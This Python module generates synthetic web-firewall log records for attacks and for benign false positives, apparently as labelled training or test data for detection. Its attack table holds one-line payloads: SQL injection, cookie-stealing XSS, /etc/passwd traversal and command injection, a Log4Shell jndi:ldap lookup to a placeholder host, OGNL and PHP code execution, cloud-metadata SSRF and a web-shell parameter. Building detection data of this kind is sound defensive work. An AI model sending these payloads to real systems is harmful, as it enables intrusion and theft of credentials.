"""Web application firewalls of many makes, on attacks and on what they take for one."""

from __future__ import annotations

import json

from generator.families.applications.wording import fill
from generator.families.web import sites
from generator.families.web.agents import browser, hostile_agent
from generator.scene import Scene, attack, benign, family
from generator.world import World

# what the rule is called, its number, the request that met it
_HOSTILE = (
    ("SQL Injection Attack Detected via libinjection", "942100", "/item?id=1' UNION SELECT username,password FROM users-- -", "SQL Injection — UNION-based SQLi", "T1190"),
    ("Detects blind sqli tests using sleep() or benchmark()", "942160", "/item?id=1 AND SLEEP(5)", "SQL Injection — Time-based Blind SQLi", "T1190"),
    ("XSS Filter - Category 1: Script Tag Vector", "941110", "/search?q=<script>alert(document.cookie)</script>", "Cross-Site Scripting (XSS) Attempt", "T1059.007"),
    ("Path Traversal Attack (/../)", "930110", "/download?file=../../../../etc/passwd", "Path Traversal / Directory Traversal Attack", "T1083"),
    ("OS File Access Attempt", "930120", "/index.php?page=/proc/self/environ", "Local File Inclusion (LFI) Attack", "T1083"),
    ("Remote Command Execution: Unix Shell Code Found", "932160", "/ping?host=;cat /etc/passwd", "OS Command Injection Attempt", "T1059.004"),
    ("Remote Command Execution: Windows Command Injection", "932110", "/diag?x=|cmd.exe /c whoami", "OS Command Injection Attempt", "T1059.004"),
    ("Potential Remote Command Execution: Log4j / Log4shell", "944150", "/?x=${jndi:ldap://{wan}/a}", "Remote Code Execution Exploit", "T1190"),
    ("Apache Struts and Java RCE: suspicious Java class detected", "944100", "/x.action?r=java.lang.ProcessBuilder", "Remote Code Execution Exploit", "T1190"),
    ("PHP Injection Attack: High-Risk PHP Function Call Found", "933160", "/?a=system('id')", "Remote Code Execution Exploit", "T1190"),
    ("Confluence OGNL injection CVE-2022-26134", "100532", "/${@java.lang.Runtime@getRuntime().exec('id')}/", "Remote Code Execution Exploit", "T1190"),
    ("Spring4Shell class loader manipulation CVE-2022-22965", "944260", "/?class.module.classLoader.resources.context.parent", "Remote Code Execution Exploit", "T1190"),
    ("PHPUnit eval-stdin remote code execution CVE-2017-9841", "crs-vpatch", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Remote Code Execution Exploit", "T1190"),
    ("Server Side Request Forgery (SSRF) Attack: Cloud provider metadata URL in Parameter", "934110", "/fetch?u=http://169.254.169.254/latest/meta-data/", "Server-Side Request Forgery (SSRF) Attempt", "T1190"),
    ("Web shell activity: known shell parameter", "955100", "/uploads/{word}.php?cmd=id", "Web Shell", "T1505.003"),
    ("Restricted File Access Attempt: .env or .git", "930130", "/.env", "Automated Reconnaissance / Vulnerability Scanning", "T1595.003"),
    ("Found User-Agent associated with security scanner", "913100", "/admin.php", "Automated Reconnaissance / Vulnerability Scanning", "T1595.002"),
)
_HARMLESS = (
    ("Host header is a numeric IP address", "920350", "/"), ("Request Missing an Accept Header", "920300", "/feed/"), ("Missing User Agent Header", "920320", "/api/ping"),
    ("GET or HEAD Request with Body Content", "920170", "/api/items/_search"), ("Request content type charset is not allowed by policy", "920480", "/api/upload"),
    ("Invalid character in request (outside of printable chars)", "920272", "/suche?q=Gr\u00fc\u00dfe"), ("Restricted SQL Character Anomaly Detection (args): # of special characters exceeded", "942430", "/editor/save?body=Terms (a), (b), (c); (d) - see: page 4, 5"),
    ("SQL Comment Sequence Detected", "942440", "/search?q=size 40 -- blue"), ("HTTP Header Injection / URL with space", "921150", "/forms/contact?text=Hello, how are you?"), ("Multipart request body failed strict validation", "200003", "/upload"),
    ("Rate limit: requests of a single client above soft limit, counted only", "rate-soft", "/assets/app.js"), ("Geo rule: country not in shop delivery list", "geo-12", "/"), ("Request body larger than inspection limit", "200002", "/wp-admin/async-upload.php"),
    ("Cookie value decoded twice (analytics consent)", "942421", "/?utm_source=mail"), ("Session fixation: referrer outside of own host with SAML response", "943110", "/saml/acs"), ("Argument length exceeded", "920370", "/saml/acs"),
)  # fmt: skip


def _record(world: World, style: int, client: str, title: str, number: str, target: str, agent: str, blocked: bool) -> str:
    path, _, query = target.partition("?")
    action = "block" if blocked else "monitor"
    host = f"www.{world.domain}"
    return (
        lambda: json.dumps({"transaction": {"client_ip": client, "time_stamp": f"{world.now:%a %b %d %H:%M:%S %Y}", "unique_id": world.hex(20), "request": {"method": "GET", "uri": target, "headers": {"Host": host, "User-Agent": agent}}, "response": {"http_code": 403 if blocked else 200}, "messages": [{"message": title, "details": {"ruleId": number, "severity": "2", "data": f"Matched Data found within ARGS: {query[:60]}"}}]}}),
        lambda: f'{world.time_plain()} [error] coraza: [client "{client}"] Coraza: {"Access denied (phase 2). " if blocked else "Warning. "}{title} [file "REQUEST.conf"] [id "{number}"] [msg "{title}"] [hostname "{host}"] [uri "{path}"] [data "{query}"]',
        lambda: f'time="{world.time_iso(0)}" level=info msg="AppSec {action}: rule {number} ({title}) matched request {target} from {client}"',
        lambda: json.dumps({"eventTime": world.time_iso(), "eventName": "Web Request", "eventSeverity": "High" if blocked else "Info", "eventSource": {"agentId": world.uuid(), "serviceName": "Access Control App"}, "eventData": {"httpSourceId": client, "httpUriPath": path, "httpUriQuery": query, "httpMethod": "GET", "waapIncidentType": title, "securityAction": "Prevent" if blocked else "Detect"}}),
        lambda: f'{world.local():%Y/%m/%d %H:%M:%S} [warn] {world.pid()}#0: *{world.number(1, 9999)} [BUNKERWEB] {"denied access from" if blocked else "detected"} {client}: ModSecurity {title} ({number}), request: "GET {target} HTTP/2.0", host: "{host}"',
        lambda: json.dumps({"category": "ApplicationGatewayFirewallLog", "time": world.time_iso(0), "properties": {"clientIp": client, "requestUri": target, "ruleSetType": "OWASP", "ruleSetVersion": "3.2", "ruleId": number, "message": title, "action": "Blocked" if blocked else "Detected", "hostname": host}}),
        lambda: json.dumps({"timestamp": int(world.now.timestamp() * 1000), "webaclId": f"arn:aws:wafv2:eu-central-1:{world.number(10**11, 10**12 - 1)}:regional/webacl/shop/{world.uuid()}", "action": "BLOCK" if blocked else "COUNT", "terminatingRuleId": title.replace(" ", "_")[:60], "httpRequest": {"clientIp": client, "uri": path, "args": query, "httpMethod": "GET", "headers": [{"name": "user-agent", "value": agent}]}}),
        lambda: json.dumps({"Action": action if blocked else "log", "ClientIP": client, "ClientRequestHTTPHost": host, "ClientRequestPath": path, "ClientRequestQuery": f"?{query}" if query else "", "Datetime": world.time_iso(0), "Description": title, "RayName": world.hex(16), "RuleID": world.hex(32), "Source": "firewallManaged", "UserAgent": agent}),
        lambda: world.syslog("ASM", f'attack_type="{title}",request_status="{"blocked" if blocked else "alerted"}",ip_client="{client}",method="GET",uri="{path}",query_string="{query}",violations="Attack signature detected",sig_ids="{number}",http_class_name="/Common/{host}"'),
        lambda: f"CEF:0|Imperva Inc.|SecureSphere|14.7|{number}|{title}|{'High' if blocked else 'Informative'}|act={action} src={client} request={host}{target} requestMethod=GET requestClientApplication={agent}",
        lambda: world.syslog("waf", f'date={world.now:%Y-%m-%d} time={world.now:%H:%M:%S} type=attack subtype="waf" action={"Alert_Deny" if blocked else "Alert"} src={client} http_host="{host}" http_url="{target}" msg="{title}" signature_id="{number}"'),
        lambda: f'{world.time_plain()} NinjaFirewall: {"CRITICAL" if blocked else "INFO"} #{world.number(10**6, 10**7)} {number} {client} GET {path} - {title} - [GET:{query}] - {host}',
    )[style]()


@family("web/probe-firewall-records-of-attacks", attack=True, weight=2.5)
def records_of_attacks(world: World) -> Scene:
    scene, style, client, agent = Scene(), world.number(0, 11), world.ip(), hostile_agent(world)
    title, number, target, threat, technique = world.pick(_HOSTILE)
    blocked = world.chance(0.7)
    label = attack(threat, technique, severity="MEDIUM" if blocked else "HIGH")
    for _ in range(sites.lines(world, 8)):
        world.tick(0.2, 20)
        scene.add(_record(world, style, client, title, number, fill(world, target, {}), agent, blocked), label)
    return scene


@family("web/probe-firewall-records-of-mistakes", attack=False, weight=2.5)
def records_of_mistakes(world: World) -> Scene:
    scene, style, client, agent = Scene(), world.number(0, 11), world.ip(), browser(world)
    title, number, target = world.pick(_HARMLESS)
    for _ in range(sites.lines(world, 8)):
        world.tick(0.5, 90)
        scene.add(_record(world, style, client, title, number, target, agent, world.chance(0.3)), benign("Blocked Noise"))
    return scene
